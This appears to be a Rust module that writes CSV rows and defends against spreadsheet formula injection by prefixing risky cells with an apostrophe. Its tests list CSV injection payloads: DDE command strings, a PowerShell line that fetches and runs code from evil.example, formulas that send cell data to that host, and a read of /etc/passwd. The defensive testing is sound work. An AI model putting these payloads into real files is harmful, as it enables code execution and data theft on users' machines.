//! Comma separated values that a spreadsheet takes for words, whatever a buyer wrote into them.
//!
//! A cell that begins like a formula is run by the program that opens the file. Such a beginning gets an apostrophe in
//! front, which makes text of it; also behind whatever another program could take for the end of a cell. Source: OWASP,
//! "CSV Injection".

/// What a formula begins with; the same in full width, which some programs turn into the usual ones.
const FORMULA: [char; 9] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\u{2212}'];
/// What ends a cell somewhere.
const SEPARATORS: [char; 5] = [',', ';', '\t', '\r', '\n'];

/// One line of a table, with its line break (RFC 4180).
pub(super) fn row(cells: &[String], separator: char) -> String {
    let cells: Vec<String> = cells.iter().map(|text| cell(text)).collect();
    format!("{}\r\n", cells.join(separator.to_string().as_str()))
}

/// A cell between quotation marks, its own ones doubled.
fn cell(text: &str) -> String {
    format!("\"{}\"", harmless(text).replace('"', "\"\""))
}

/// The same words with an apostrophe before whatever begins like a formula.
fn harmless(text: &str) -> String {
    let mut safe = String::with_capacity(text.len() + 2);
    // Whether a cell begins here, in some program's view.
    let mut beginning = true;
    for letter in text.chars() {
        // Spreadsheets see no end of a line that shows nothing.
        if letter == '\0' {
            continue;
        }
        if beginning && (FORMULA.contains(&letter) || matches!(letter, '\t' | '\r')) {
            safe.push('\'');
        }
        beginning = SEPARATORS.contains(&letter) || beginning && is_skipped(letter);
        safe.push(letter);
    }
    safe
}

/// What programs pass over at the beginning of a cell: blanks, quotation marks, what cannot be seen.
fn is_skipped(letter: char) -> bool {
    letter.is_whitespace()
        || letter.is_control()
        || matches!(letter, '"' | '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{feff}')
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What begins like a formula here would be run, or nearly so, by some program.
    const PAYLOADS: [&str; 40] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "=IMPORTDATA(CONCAT(\"http://evil.example/\",A1:A9))",
        "=WEBSERVICE(\"http://evil.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=2+5+cmd|' /C calc'!A0",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "='file:///etc/passwd'#$passwd.A1",
        "==1",
        "= 1+1",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "-@SUM(1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n=1+1",
        "\ttext",
        "\rtext",
        " =1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{202e}=1+1",
        "\u{2060}@SUM(1)",
        "\"=1+1",
        "\"\"=1+1",
        "\0=1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
    ];

    /// A cell of some other program begins inside.
    const INSIDE: [&str; 20] = [
        "a;=1+1",
        "a,=1+1",
        "a\t=1+1",
        "a\n=1+1",
        "a\r=1+1",
        "a\r\n=1+1",
        "a;+1",
        "a,-1",
        "a;@SUM(1)",
        "a; =1+1",
        "a;\"=1+1",
        "a\",\"=1+1",
        "a\";\"=1+1",
        "a;\u{200b}=1+1",
        "a;＝1+1",
        "a,＋1",
        "a;\t=1+1",
        "a\n\"=cmd|'/C calc'!A0\"",
        "a,,=1",
        "a;;@x",
    ];

    /// Every place in `text` where a cell can begin, in any of the programs.
    fn begins_a_formula(text: &str) -> bool {
        let cells = text.split(SEPARATORS);
        let mut first = cells.filter_map(|cell| cell.chars().find(|letter| !is_skipped(*letter)));
        first.any(|letter| FORMULA.contains(&letter))
    }

    #[test]
    fn nothing_that_a_buyer_writes_is_run_as_a_formula() {
        for payload in PAYLOADS.iter().chain(&INSIDE) {
            let safe = harmless(payload);
            assert!(!begins_a_formula(&safe), "{payload:?} became {safe:?}");
            assert!(safe.contains('\''), "{payload:?} became {safe:?}");
            assert!(!safe.starts_with(['\t', '\r']), "{payload:?}");
            // Nothing is lost but what nobody can see.
            let words = |text: &str| text.replace(['\'', '\0'], "");
            assert_eq!(words(&safe), words(payload));
        }
        // The control is able to fail.
        assert!(begins_a_formula("a; =1") && begins_a_formula("＝1"));
    }

    #[test]
    fn a_phone_number_keeps_its_plus_and_all_its_digits() {
        // As a number it would be 7.91612E+10.
        assert_eq!(cell("+79161234567"), "\"'+79161234567\"");
    }

    #[test]
    fn usual_words_stay_as_they_are() {
        for words in [
            "Рюкзак «Вектор» 20 л",
            "ул. Ленина, д. 5-7",
            "anna@example.org",
            "1+1=2",
            "it's",
            "2490.50",
            "",
        ] {
            assert_eq!(harmless(words), words);
        }
    }

    #[test]
    fn cells_are_between_quotation_marks_and_their_own_are_doubled() {
        let cells = ["a\"b".to_owned(), "c,d\ne".to_owned()];
        assert_eq!(row(&cells, ','), "\"a\"\"b\",\"c,d\ne\"\r\n");
        assert_eq!(row(&cells, ';'), "\"a\"\"b\";\"c,d\ne\"\r\n");
    }
}
